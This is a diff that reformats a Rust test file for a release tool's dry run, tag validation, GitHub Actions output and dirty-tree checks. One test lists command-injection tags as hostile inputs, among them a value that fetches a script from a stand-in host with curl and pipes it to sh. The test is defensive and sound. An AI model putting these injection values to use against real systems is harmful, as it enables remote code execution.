@@ -50,7 +50,9 @@ fn dry_run_twice_builds_identical_verified_files() {
         let out = xtask(repo.path(), &["release", "v1.2.3-RC.1", "--dry-run"], &[]);
         let log = text(&out);
         assert!(out.status.success(), "{log}");
-        for (i, step) in ["Version", "Preflight", "Stamp", "Python tools", "Build", "Verify", "Publish"].iter().enumerate() {
+        for (i, step) in
+            ["Version", "Preflight", "Stamp", "Python tools", "Build", "Verify", "Publish"].iter().enumerate()
+        {
             assert!(log.contains(&format!("[{}/7] {step}: done (", i + 1)), "step {step} missing in:\n{log}");
         }
         assert!(log.contains("the publish target is not configured"), "{log}");
@@ -84,7 +86,15 @@ fn hostile_tags_create_no_file_and_run_nothing() {
         fs::set_permissions(&path, fs::Permissions::from_mode(0o755)).unwrap();
     }
     let before = snapshot(repo.path());
-    let hostile = ["v1$(id)", "v1`id`", "v1;id;#", "v1|id", "v1&&touch pwned", "v1\"$(curl${IFS}-sL${IFS}x.example|sh)\"", "v1\nid"];
+    let hostile = [
+        "v1$(id)",
+        "v1`id`",
+        "v1;id;#",
+        "v1|id",
+        "v1&&touch pwned",
+        "v1\"$(curl${IFS}-sL${IFS}x.example|sh)\"",
+        "v1\nid",
+    ];
     for tag in hostile {
         // As an argument, and as the pushed tag of a GitHub Actions run.
         let path = bin.path().as_os_str();
@@ -142,11 +152,20 @@ fn github_tag_push_releases_the_pushed_tag_with_groups_and_summary() {
     assert_eq!(log.matches("::group::").count(), 7, "{log}");
     assert_eq!(log.matches("::endgroup::").count(), 7, "{log}");
     // Child output can never start a workflow command line.
-    assert!(log.lines().filter(|l| l.trim_start().starts_with("::")).all(|l| l.starts_with("::group::") || l == "::endgroup::"));
+    assert!(
+        log.lines()
+            .filter(|l| l.trim_start().starts_with("::"))
+            .all(|l| l.starts_with("::group::") || l == "::endgroup::")
+    );
     let md = fs::read_to_string(&summary).unwrap();
     let manifest = manifest(repo.path(), "2.0.0");
     for file in manifest["files"].as_array().unwrap() {
-        let row = format!("| `{}` | {} | `{}` |", file["file"].as_str().unwrap(), file["size"], file["sha256"].as_str().unwrap());
+        let row = format!(
+            "| `{}` | {} | `{}` |",
+            file["file"].as_str().unwrap(),
+            file["size"],
+            file["sha256"].as_str().unwrap()
+        );
         assert!(md.contains(&row), "{row} not in summary:\n{md}");
     }
 }
@@ -198,7 +217,10 @@ fn dirty_tree_is_refused_outside_ci_unless_allowed() {
     let out = xtask(repo.path(), &["release", "v1.0", "--dry-run"], &[]);
     let log = text(&out);
     assert!(!out.status.success());
-    assert!(log.contains("uncommitted changes") && log.contains("yamause/stray.py") && log.contains("--allow-dirty"), "{log}");
+    assert!(
+        log.contains("uncommitted changes") && log.contains("yamause/stray.py") && log.contains("--allow-dirty"),
+        "{log}"
+    );
     // Nothing was stamped: the preflight comes before any side effect.
     assert!(about(repo.path()).contains("\"0.1.0\""), "{}", about(repo.path()));
 
